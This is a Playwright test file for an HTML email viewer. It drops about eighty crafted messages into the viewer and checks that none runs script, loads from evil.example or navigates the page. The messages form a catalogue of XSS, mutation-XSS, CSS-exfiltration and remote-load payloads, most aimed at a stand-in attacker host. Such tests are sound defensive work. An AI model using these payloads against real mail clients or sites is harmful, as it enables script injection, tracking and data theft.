import { expect, test } from '@playwright/test'
import { Facteur } from './page.ts'

/**
 * What HTML mail has tried, one by one: each would run `hit()`, leave for evil.example, or lead the page or its frame away. None
 * may, and the text that stands beside it is seen all the same.
 */
const HIT = 'top.hit=1;parent.hit=1;window.hit=1'
const EVIL = 'https://evil.example'
const attacks: Readonly<Record<string, string>> = {
  script: `<script>${HIT}</script>`,
  'script from outside': `<script src="${EVIL}/a.js"></script>`,
  'script in upper case with a slash': `<SCRIPT/SRC="${EVIL}/b.js"></SCRIPT>`,
  'script as a module': `<script type="module">${HIT}</script>`,
  'script in pieces': `<scr<script>ipt>${HIT}</scr</script>ipt>`,
  'broken picture': `<img src=x onerror="${HIT}">`,
  'picture with a tab in its name': `<img src=x on\terror="${HIT}" onerror\t="${HIT}">`,
  'slashes for blanks': `<img/src=x/onerror=${HIT}>`,
  'tracking pixel': `<img src="${EVIL}/pixel.gif" width=1 height=1>`,
  'without a scheme': `<img src="//evil.example/p.gif">`,
  srcset: `<img srcset="${EVIL}/1.png 1x, ${EVIL}/2.png 2x" src="data:,">`,
  picture: `<picture><source srcset="${EVIL}/s.png"><img alt=x></picture>`,
  lowsrc: `<img lowsrc="${EVIL}/l.gif" dynsrc="${EVIL}/d.avi">`,
  'link to a script': `<a class=go href="javascript:${HIT}">go</a>`,
  'link to a script, hidden': `<a class=go href="jav&#x09;ascript:${HIT}">go</a>`,
  'link to a page in itself': `<a class=go href="data:text/html,<script>${HIT}</script>">go</a>`,
  'link to the top': `<a class=go target=_top href="${EVIL}/top">go</a>`,
  'link to a window': `<a class=go target=_blank href="${EVIL}/blank" ping="${EVIL}/ping">go</a>`,
  'map of links': `<map name=m><area class=go shape=default href="${EVIL}/area"></map><img usemap=#m alt=x>`,
  'link in a picture': `<svg><a class=go xlink:href="javascript:${HIT}"><text y=20>go</text></a></svg>`,
  'meta refresh': `<meta http-equiv=refresh content="0;url=${EVIL}/refresh">`,
  'meta refresh to a script': `<meta http-equiv="refresh" content="0;javascript:${HIT}">`,
  'meta of another policy': `<meta http-equiv=Content-Security-Policy content="default-src *"><img src="${EVIL}/m.png">`,
  'base address': `<base href="${EVIL}/"><img src="based.png"><a class=go href="based">go</a>`,
  'base target': `<base target=_top><a class=go href="${EVIL}/t">go</a>`,
  'style sheet': `<link rel=stylesheet href="${EVIL}/s.css">`,
  prefetch: `<link rel=prefetch href="${EVIL}/f"><link rel=preload as=image href="${EVIL}/i.png">`,
  'names looked up ahead': `<link rel=dns-prefetch href="//evil.example"><link rel=preconnect href="${EVIL}">`,
  manifest: `<link rel=manifest href="${EVIL}/m.json"><link rel=icon href="${EVIL}/i.ico">`,
  import: `<style>@import "${EVIL}/i.css"; @import url(${EVIL}/j.css);</style>`,
  'url of a style': `<div style="background:url(${EVIL}/bg.png)">x</div>`,
  'url, escaped': `<style>body{background:\\75rl(${EVIL}/esc.png)}</style>`,
  'url behind a comment': `<style>body{background:u/**/rl(x);cursor:url(${EVIL}/c.cur),auto}</style>`,
  'image-set': `<div style="background-image:image-set('${EVIL}/set.png' 1x)">x</div>`,
  'font from outside': `<style>@font-face{font-family:f;src:url(${EVIL}/f.woff2)}p{font-family:f}</style><p>f</p>`,
  'style that reads': `<style>input[value^=a]{background:url(${EVIL}/a)}</style><input value=abc>`,
  'old expressions': `<div style="width:expression(${HIT});-moz-binding:url(${EVIL}/x.xml)">x</div>`,
  iframe: `<iframe src="${EVIL}/frame"></iframe>`,
  'iframe with a script': `<iframe src="javascript:${HIT}"></iframe>`,
  srcdoc: `<iframe srcdoc="<script>${HIT}</script>"></iframe>`,
  frameset: `<frameset><frame src="${EVIL}/fs"></frameset>`,
  object: `<object data="${EVIL}/o"></object><object data="data:text/html,<script>${HIT}</script>"></object>`,
  embed: `<embed src="${EVIL}/e.swf"><applet code=x archive="${EVIL}/x.jar"></applet>`,
  portal: `<portal src="${EVIL}/portal"></portal><fencedframe src="${EVIL}/ff"></fencedframe>`,
  video: `<video poster="${EVIL}/p.png" src="${EVIL}/v.mp4" autoplay onerror="${HIT}"></video>`,
  audio: `<audio src="${EVIL}/a.mp3" autoplay onerror="${HIT}"></audio>`,
  track: `<video><source src="${EVIL}/s.mp4" onerror="${HIT}"><track src="${EVIL}/t.vtt" default></video>`,
  'input as a picture': `<input type=image src="${EVIL}/in.png" onerror="${HIT}">`,
  background: `<body background="${EVIL}/body.png"><table background="${EVIL}/table.png"><td>x</table>`,
  svg: `<svg onload="${HIT}"><rect width=9 height=9 /></svg>`,
  'svg with a script': `<svg><script>${HIT}</script></svg>`,
  'svg, animated': `<svg><a class=go><animate attributeName=href values="javascript:${HIT}" /><text y=20>go</text></a></svg>`,
  'svg from outside': `<svg><image href="${EVIL}/i.svg" /><use href="${EVIL}/u.svg#a" /></svg>`,
  'svg with HTML in it': `<svg><foreignObject><img src=x onerror="${HIT}"></foreignObject></svg>`,
  'filter from outside': `<div style="filter:url(${EVIL}/f.svg#f);mask:url(${EVIL}/m.svg#m)">x</div>`,
  mathml: `<math><maction actiontype="statusline#x" xlink:href="javascript:${HIT}" class=go>go</maction></math>`,
  'form that leaves': `<form action="${EVIL}/form"><button class=go>go</button></form>`,
  'button that leaves': `<form id=f></form><button class=go form=f formaction="${EVIL}/fa">go</button>`,
  'form to a script': `<form action="javascript:${HIT}"><input class=go type=submit></form>`,
  'form to the top': `<form target=_top action="${EVIL}/ft"><button class=go>go</button></form>`,
  autofocus: `<input autofocus onfocus="${HIT}"><select autofocus onfocus="${HIT}"></select>`,
  'opened by itself': `<details open ontoggle="${HIT}"><summary>x</summary></details>`,
  'pointed at': `<div class=go onmouseover="${HIT}" onpointerenter="${HIT}" onclick="${HIT}">go</div>`,
  animation: `<style>@keyframes k{}</style><div style="animation:k 1ms" onanimationstart="${HIT}">x</div>`,
  marquee: `<marquee onstart="${HIT}" loop=1>x</marquee>`,
  'scroll and load': `<body onload="${HIT}" onpageshow="${HIT}" onscroll="${HIT}">x`,
  'title that ends early': `<title></title><img src=x onerror="${HIT}"></title>`,
  'text field that ends early': `<textarea></textarea><img src=x onerror="${HIT}"></textarea>`,
  'noscript, read in two ways': `<noscript><p title="</noscript><img src=x onerror='${HIT}'>"></noscript>`,
  'style, read in two ways': `<style><a title="</style><img src=x onerror='${HIT}'>"></style>`,
  'svg, read in two ways': `<svg></p><style><a title="</style><img src=x onerror='${HIT}'>">`,
  'math, read in two ways': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror='${HIT}'&gt;">`,
  'form in a form': `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="${HIT}">`,
  template: `<template><img src=x onerror="${HIT}"></template>`,
  'shadow in the page': `<div><template shadowrootmode=open><img src=x onerror="${HIT}"></template></div>`,
  'comment that ends oddly': `<!--><img src=x onerror="${HIT}">--><!--!><img src=x onerror="${HIT}">`,
  CDATA: `<![CDATA[><img src=x onerror="${HIT}">]]>`,
  'names of the page': `<form id=body><input name=innerHTML><input name=attributes></form><img name=cookie>`,
  'top by script': `<img src=x onerror="top.location='${EVIL}/top2'">`,
  'NUL in a name': `<im\0g src=x onerror="${HIT}"><a class=go href="java\0script:${HIT}">go</a>`,
  'end of the frame': `"></iframe><img src=x onerror="${HIT}"><script>${HIT}</script>`,
  worker: `<script>new Worker('${EVIL}/w.js');navigator.serviceWorker.register('/x.js')</script>`,
  speculation: `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${EVIL}/spec"]}]}</script>`,
  'import map': `<script type=importmap>{"imports":{"x":"${EVIL}/x.js"}}</script><script type=module>import "x"</script>`,
}

/** All frames' windows are asked, the page's and those of the letters. */
declare global {
  interface Window {
    hit?: number
  }
}

// What a browser allows, a letter may not.
test.use({ serviceWorkers: 'allow' })

const batches = Array.from({ length: 4 }, (_, batch) =>
  Object.entries(attacks).filter((_attack, at) => at % 4 === batch),
)

for (const [number, batch] of batches.entries())
  test(`HTML of a stranger runs, loads and leads nowhere, set ${number + 1} of 4`, async ({ page, context }) => {
    test.setTimeout(180_000)
    const outside: string[] = []
    const navigated: string[] = []
    const dialogs: string[] = []
    await context.route(/evil\.example/, async (route) => {
      outside.push(route.request().url())
      await route.abort()
    })
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message())
      void dialog.dismiss()
    })
    context.on('page', (other) => navigated.push(other.url()))
    const facteur = new Facteur(page)
    await facteur.open('?lang=en')
    const address = page.url()
    page.on('framenavigated', (frame) => {
      if (!/^about:(?:srcdoc|blank)$/.test(frame.url())) navigated.push(frame.url())
    })
    // Each comes as a file that is dropped: so every octet is as it stands here.
    for (const [name, html] of batch) {
      const letter = [
        'From: Stranger <stranger@outside.example>',
        'To: alice@rennes.example',
        'Subject: attack',
        'MIME-Version: 1.0',
        'Content-Type: text/html; charset=utf-8',
        '',
        `<p>before</p>${html}<p>after</p>`,
        '',
      ].join('\r\n')
      const transfer = await page.evaluateHandle((text) => {
        const data = new DataTransfer()
        data.items.add(new File([text], 'attack.eml', { type: 'message/rfc822' }))
        return data
      }, letter)
      await page.dispatchEvent('body', 'drop', { dataTransfer: transfer })
      const dialog = page.getByRole('dialog')
      const frame = dialog.locator('iframe')
      await expect(frame, name).toBeVisible()
      expect(await frame.getAttribute('sandbox'), name).toBe('')
      const inside = dialog.frameLocator('iframe')
      await inside.locator('body, frameset').first().waitFor({ state: 'attached' })
      for (const go of await inside.locator('.go').all())
        await go.dispatchEvent('click', {}, { timeout: 1000 }).catch(() => undefined)
      expect(await page.evaluate(() => window.hit), name).toBeUndefined()
      expect([name, outside, dialogs, navigated]).toEqual([name, [], [], []])
      expect(page.url(), name).toBe(address)
      await page.keyboard.press('Escape')
      await expect(dialog, name).toHaveCount(0)
    }
    // What was to come late had its time.
    await page.waitForTimeout(1000)
    expect([outside, dialogs, navigated]).toEqual([[], [], []])
    expect(await page.evaluate(() => window.hit)).toBeUndefined()
    expect(context.pages()).toHaveLength(1)
  })
